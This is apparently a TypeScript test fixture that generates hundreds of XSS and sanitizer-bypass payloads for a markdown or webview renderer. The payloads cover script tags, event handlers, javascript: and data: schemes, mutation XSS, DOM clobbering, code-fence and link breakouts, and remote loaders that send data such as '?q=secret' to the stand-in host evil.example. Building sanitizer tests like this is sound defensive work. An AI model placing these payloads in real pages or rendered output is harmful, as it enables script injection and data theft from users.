/**
 * Texts that try to make a page run, load or link to something: the families that public
 * collections of sanitizer attacks are made of, generated so that none is forgotten. `hit()` is
 * what they try to call, `https://evil.example` what they try to reach.
 */

const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart'];

const eventTags = [
  ...[
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'iframe',
    'input autofocus',
    'a href=x',
  ],
  ...['details open ontoggle=hit()', 'marquee', 'object data=x', 'embed src=x', 'select autofocus'],
  ...[
    'textarea autofocus',
    'button autofocus',
    'keygen autofocus',
    'style',
    'link href=x',
    'x tabindex=1',
  ],
  ...['vscode-button', 'math', 'isindex type=image src=1', 'dialog open', 'source', 'track'],
];

const schemes = [
  ...[
    'javascript:hit()',
    'JaVaScRiPt:hit()',
    ' javascript:hit()',
    'java\tscript:hit()',
    'java\nscript:hit()',
  ],
  ...[
    '\u0001javascript:hit()',
    'javascript\u00a0:hit()',
    'javascript&colon;hit()',
    'java&Tab;script:hit()',
  ],
  ...[
    '&#106;avascript:hit()',
    '&#x6A;avascript:hit()',
    '&#0000106avascript:hit()',
    'javascript&#58;hit()',
  ],
  ...[
    'javascript%3Ahit()',
    'j&#97v&#97script:hit()',
    'java&NewLine;script:hit()',
    '\\javascript:hit()',
  ],
  ...[
    'data:text/html,<script>hit()</script>',
    'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  ],
  ...['data:image/svg+xml,<svg onload=hit()>', 'vbscript:hit()', 'livescript:hit()', 'mocha:hit()'],
  ...[
    'command:workbench.action.quit',
    'vscode://acme.ext/run?hit',
    'vscode-insiders://acme.ext/run',
  ],
  ...[
    'vscode-webview-resource://x/y',
    'file:///etc/passwd',
    'blob:https://evil.example/1',
    'about:blank',
  ],
  ...[
    'filesystem:https://evil.example/x',
    'view-source:https://evil.example',
    'ms-msdt:/id hit',
    'ws://evil.example',
  ],
];

const linkForms: ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}> "title")`,
  (address) => `<${address}>`,
  (address) => `[click][r]\n\n[r]: ${address}`,
  (address) => `![image](${address})`,
  (address) => `<a href="${address}">click</a>`,
];

const scripts = [
  '<script>hit()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/src="data:,hit()"></script>',
  '<script\n>hit()</script\n>',
  '<script>hit()//<b>',
  '<<script>hit();//<</script>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<script type="module">import "https://evil.example/x.js"</script>',
  '</script><script>hit()</script>',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '\\<script>hit()\\</script>',
  '<script x>hit()</script x>',
  '<script ~~~>hit()</script ~~~>',
  '%3Cscript%3Ehit()%3C/script%3E',
  '\u003cscript\u003ehit()\u003c/script\u003e',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '＜script＞hit()＜/script＞',
  '<script\u0000>hit()</script>',
  '<!--><script>hit()</script>-->',
];

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>',
  '<svg><foreignObject><iframe srcdoc="<script>hit()</script>"></foreignObject></svg>',
  '<template><script>hit()</script></template>',
  '<template shadowrootmode=open><img src=x onerror=hit()></template>',
  '<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>',
  '<title><img title="</title><img src=x onerror=hit()>">',
  '<xmp><p title="</xmp><svg/onload=hit()>">',
  '<noembed><p title="</noembed><svg/onload=hit()>">',
  '<iframe><p title="</iframe><svg/onload=hit()>">',
  '<select><template><style></select><img src=x onerror=hit()>',
  '<table><td background="https://evil.example/x"><tr><img src=x onerror=hit()>',
  '<p id="</p><img src=x onerror=hit()>">',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '<?xml-stylesheet href="javascript:hit()"?>',
  '<!DOCTYPE x [<!ENTITY y "<script>hit()</script>">]>&y;',
  '<!--[if IE]><script>hit()</script><![endif]-->',
  '<listing>&lt;img src=x onerror=hit()&gt;</listing>',
  '<plaintext><img src=x onerror=hit()>',
  '<frameset><frame src="javascript:hit()"></frameset>',
  '<b/><img/src/onerror=hit()>',
  '<img src="x` `<script>hit()</script>"` `>',
  '<img src=x:hit() onerror=eval(src)>',
  "<img src='1''onerror='hit()'>",
  '<img src=1 href=1 onerror="hit()"></img>',
  '<a href="https://evil.example" ping="https://evil.example/p">x</a>',
];

const loaders = [
  '![x](https://evil.example/x.png?q=secret)',
  '![x](//evil.example/x.png)',
  '![x][i]\n\n[i]: https://evil.example/i.png "t"',
  '[![x](https://evil.example/a.png)](https://evil.example/b)',
  '<img src="https://evil.example/x.png">',
  '<img srcset="https://evil.example/x.png 1x, https://evil.example/y.png 2x">',
  '<picture><source srcset="https://evil.example/x.png"><img></picture>',
  '<video poster="https://evil.example/x.png"></video>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="prefetch" href="https://evil.example/x">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<link rel="preconnect" href="https://evil.example">',
  '<link rel="icon" href="https://evil.example/favicon.ico">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example/x.png)}</style>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  '<p style="background:\\75rl(https://evil.example/x.png)">x</p>',
  '<div style="-webkit-mask:url(https://evil.example/x.svg)">x</div>',
  '<svg><use href="https://evil.example/x.svg#y"></use></svg>',
  '<svg><image xlink:href="https://evil.example/x.png"/></svg>',
  '<svg><feImage href="https://evil.example/x.png"/></svg>',
  '<svg><style>@font-face{font-family:x;src:url(https://evil.example/x)}</style></svg>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<img src=https://evil.example/x.png>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.pdf">',
  '<input type="image" src="https://evil.example/x.png">',
  '<body background="https://evil.example/x.png">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<form action="https://evil.example/"><input name=q value=secret><button>x</button></form>',
  '<button form=f formaction="https://evil.example/">x</button>',
  '<portal src="https://evil.example/"></portal>',
  '<math href="javascript:hit()">x</math>',
  '<table background="https://evil.example/x.png"><tr><td>x</table>',
  '<bgsound src="https://evil.example/x.mid">',
  '<isindex action="https://evil.example">',
];

const vectors = [
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:hit()>',
  '<svg><a><animate attributeName=href values=javascript:hit() /><text x=20 y=20>x</text></a>',
  '<svg><script>hit()</script></svg>',
  '<svg><script href="data:,hit()"/></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit()</handler></svg>',
  '<svg><discard onbegin=hit()>',
  '<svg><title><script>hit()</script></title></svg>',
  '<svg><desc><iframe onload=hit()></iframe></desc></svg>',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:hit()">x</maction></math>',
  '<math><mi xlink:href="data:x,<script>hit()</script>">x</mi></math>',
  '<svg xmlns="http://www.w3.org/2000/svg"><g onload="hit()"></g></svg>',
];

const clobbering = [
  '<a id="acquireVsCodeApi" name="acquireVsCodeApi" href="cid:x">x</a>',
  '<form id="document" name="document"><input name="body"></form>',
  '<img name="getElementById" id="getElementById">',
  '<form><input name="attributes"><input name="childNodes"></form>',
  '<a id="__proto__">x</a><a id="constructor" name="prototype">y</a>',
  '<iframe name="top" srcdoc="x"></iframe>',
  '<object id="vscode" data="x"></object>',
  '[x](#acquireVsCodeApi)\n\n<p id="acquireVsCodeApi">',
  '# acquireVsCodeApi {#acquireVsCodeApi name=body onclick=hit()}',
  '[x]{.class onclick=hit()}',
];

const fences = [
  '```" onload="hit()\ncode\n```',
  "```' onmouseover='hit()\ncode\n```",
  '```js onclick=hit()\ncode\n```',
  '```<img src=x onerror=hit()>\ncode\n```',
  '```html\n<script>hit()</script>\n```',
  '```</pre><script>hit()</script>\ncode\n```',
  '```x class=codicon id=acquireVsCodeApi\ncode\n```',
  '```__proto__\ncode\n```',
  '```constructor\ncode\n```',
  '```&quot; onclick=hit()\ncode\n```',
  '~~~"><svg/onload=hit()>\n</pre></code><script>hit()</script>\n~~~',
  '    </code></pre><script>hit()</script>',
  '`</code><script>hit()</script>`',
  '```svg\n<svg onload=hit()>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=hit()>"]\n```',
];

const breakouts = [
  '[x](https://a.example/"onmouseover="hit())',
  "[x](https://a.example/'onmouseover='hit())",
  '[x](https://a.example "title" onmouseover="hit()")',
  '[x](https://a.example "\\"onmouseover=hit()//")',
  '[x](<https://a.example/ onmouseover=hit()>)',
  '[x](https://a.example/`onmouseover=hit()`)',
  '![" onerror="hit()](https://evil.example/x.png)',
  '![x](https://evil.example/"onerror="hit())',
  '[<img src=x onerror=hit()>](https://a.example)',
  '[`<script>hit()</script>`](https://a.example)',
  '[x]: https://a.example "<img src=x onerror=hit()>"\n\n[x]',
  '<https://a.example/"onclick="hit()>',
  'https://a.example/"onclick="hit()',
  'https://a.example/<script>hit()</script>',
  '<a@a.example"onclick="hit()>',
  '[x](mailto:a@a.example?subject="><script>hit()</script>)',
  '| <img src=x onerror=hit()> |\n|---|\n| <script>hit()</script> |',
  '| a |\n|:-:" onclick="hit()|\n| b |',
  '> <script>hit()</script>',
  '1. <svg/onload=hit()>\n2. <img src=x onerror=hit()>',
  '# <img src=x onerror=hit()>',
  '**<img src=x onerror=hit()>**',
  '<br onclick=hit()>',
  '<br/onclick=hit()>',
  '<br><script>hit()</script><br/>',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '<%= hit() %>',
  '\u202ehttps://a.example/\u202c',
  '[https://docs.acme.com](https://evil.example)',
  '[x](https://docs.acme.com@evil.example/)',
  '[x](https://docs.acme.com\\@evil.example/)',
  '[x](https:evil.example)',
  '[x](\\\\evil.example\\share)',
  '[x](https://evil.example:99999/)',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=hit() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hit()//>',
  '"><img src=x onerror=hit()><"',
  "';hit();//",
  '--><svg onload=hit()>',
  ']]><svg onload=hit()>',
];

/** Every payload, each once. */
export const payloads: readonly string[] = [
  ...new Set([
    ...scripts,
    ...eventTags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=hit()>`)),
    ...schemes.flatMap((scheme) => linkForms.map((form) => form(scheme))),
    ...mutations,
    ...loaders,
    ...vectors,
    ...clobbering,
    ...fences,
    ...breakouts,
  ]),
];

const inOneLine = (payload: string): string => payload.replaceAll('\n', ' ');
const indented = (payload: string, by: string): string => payload.replaceAll('\n', `\n${by}`);

/** Places in which a payload can stand in a reply, by name. */
export const contexts: Record<string, (payload: string) => string> = {
  paragraph: (payload) => payload,
  'middle of a sentence': (payload) => `before *it* ${payload} after`,
  list: (payload) => `- item\n- ${indented(payload, '  ')}\n  - nested ${inOneLine(payload)}`,
  table: (payload) =>
    `| a | b |\n|---|---|\n| ${inOneLine(payload).replaceAll('|', '\\|')} | x |\n`,
  quote: (payload) => `> ${indented(payload, '> ')}`,
  heading: (payload) => `## ${inOneLine(payload)}`,
  'link text': (payload) => `[${inOneLine(payload)}](https://a.example/)`,
  'link title': (payload) =>
    `[x](https://a.example/ "${inOneLine(payload).replaceAll('"', '\\"')}")`,
  'link address': (payload) => `[x](<https://a.example/${inOneLine(payload)}>)`,
  'image text': (payload) => `![${inOneLine(payload)}](https://evil.example/x.png)`,
  'code fence': (payload) => `\`\`\`\`\n${payload}\n\`\`\`\``,
  'fence language': (payload) => `~~~${inOneLine(payload).replaceAll(' ', '\u00a0')}\nx\n~~~`,
  'inline code': (payload) => `\`\`${inOneLine(payload)}\`\``,
  footnote: (payload) => `text[^1]\n\n[^1]: ${indented(payload, '    ')}`,
  'footnote label': (payload) =>
    `[^${inOneLine(payload)}]\n\n[^${inOneLine(payload).replaceAll(' ', '\u00a0')}]: x`,
  alert: (payload) => `> [!NOTE]\n> ${indented(payload, '> ')}`,
  'alert marker': (payload) => `> [!${inOneLine(payload)}]\n> x`,
  task: (payload) => `- [x] ${indented(payload, '  ')}\n- [ ] ${inOneLine(payload)}`,
  formula: (payload) =>
    `$x = ${inOneLine(payload)}$ and \\(y = ${inOneLine(payload)}\\)\n\n$$\n${payload}\n$$`,
  'formula as a command': (payload) =>
    `$\\href{${inOneLine(payload)}}{\\text{${inOneLine(payload)}}}$`,
  details: (payload) =>
    `<details open><summary>${inOneLine(payload)}</summary>\n\n${payload}\n\n</details>`,
  strikethrough: (payload) => `~~${inOneLine(payload)}~~ and ~${inOneLine(payload)}~`,
  definition: (payload) => `[r]\n\n[r]: ${inOneLine(payload)} "${inOneLine(payload)}"`,
};
